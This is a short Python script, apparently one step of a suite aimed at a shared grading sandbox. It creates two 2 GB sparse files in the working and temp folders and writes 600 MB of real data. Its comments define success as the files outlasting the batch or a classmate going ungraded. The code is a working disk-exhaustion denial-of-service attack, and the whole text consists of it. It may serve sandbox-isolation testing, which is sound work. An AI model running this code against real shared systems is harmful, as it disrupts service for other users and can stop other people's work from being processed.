# Fills the disk: two files of two gigabytes that are empty, and 600 MB that are not.
# Success: they are still there after the batch, or a classmate is not graded.
# %% last
import os
import tempfile

for folder in (".", tempfile.gettempdir()):
    attempt(lambda: os.truncate(os.open(f"{folder}/attack-sparse", os.O_CREAT | os.O_RDWR), 2 << 30))
block = b"x" * (10 << 20)
for number in range(6):
    with open(f"attack-{number}.bin", "wb") as file:
        for _ in range(10):
            if isinstance(attempt(file.write, block), str):
                break
